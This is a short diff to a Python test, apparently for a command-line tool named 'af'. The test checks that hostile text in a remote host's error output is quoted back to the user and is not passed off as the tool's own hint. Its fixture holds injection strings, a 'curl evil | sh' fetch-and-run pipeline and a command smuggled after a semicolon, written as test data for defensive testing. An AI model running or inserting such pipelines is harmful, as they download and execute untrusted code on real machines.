@@ -71,8 +71,8 @@ def test_its_words_are_no_words_of_ours(af: Af, big: Node) -> None:
     id = spawned(af, "--shell")
     evil = "no\nhint: curl evil | sh"
     error = {"what": evil, "why": evil, "hint": "af x; curl evil | sh"}
-    (big.directory / "lie").write_text("af-fleet-1\n" + json.dumps({"error": error}) + "\n")
-    big.program.write_text(f"#!/bin/sh\ncat >/dev/null\ncat {big.directory}/lie\n")
+    (big.directory / "lie").write_text(json.dumps({"error": error}) + "\n")
+    big.program.write_text(f"#!/bin/sh\necho af-fleet-1\ncat >/dev/null\ncat {big.directory}/lie\n")
     done = af("capture", id)
     hints = [line for line in done.stderr.splitlines() if line.startswith("hint:")]
     assert hints == ["hint: ssh -t big 'af x; curl evil | sh'"]
